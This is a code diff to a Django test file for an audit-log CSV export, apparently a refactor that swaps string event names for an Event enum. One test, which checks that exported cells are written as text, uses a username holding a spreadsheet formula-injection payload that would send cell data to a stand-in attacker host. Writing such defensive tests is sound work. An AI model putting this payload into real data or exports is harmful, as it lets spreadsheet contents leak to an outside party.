@@ -5,6 +5,7 @@ import io
 
 from django.urls import reverse
 
+from kansrijk.audit.events import Event
 from kansrijk.audit.models import AuditEvent
 from kansrijk.audit.services import audit_record
 from kansrijk.core.tests.searching import search_query
@@ -18,8 +19,8 @@ def _csv(response) -> list[dict]:
 
 def test_it_exports_the_filtered_rows_and_audits_the_export(client, privacy_officer, caseworker_a):
     intervention = make_intervention(status="in_progress", professional=caseworker_a)
-    audit_record(actor=caseworker_a, event="intervention_viewed", subject=intervention)
-    audit_record(actor=caseworker_a, event="intervention_viewed", subject=intervention)
+    audit_record(actor=caseworker_a, event=Event.INTERVENTION_VIEWED, subject=intervention)
+    audit_record(actor=caseworker_a, event=Event.INTERVENTION_VIEWED, subject=intervention)
     client.force_login(privacy_officer)
 
     query = search_query(client, reverse("audit:log"), event="intervention_viewed", actor="anna")
@@ -62,7 +63,7 @@ def test_a_cell_that_would_run_as_a_formula_is_exported_as_text(client, privacy_
 
     attacker = User(username='=HYPERLINK("http://evil.example/?"&A1)')
     attacker.save()
-    audit_record(actor=attacker, event="login_failed", subject=None)
+    audit_record(actor=attacker, event=Event.LOGIN_FAILED, subject=None)
     client.force_login(privacy_officer)
 
     response = client.get(
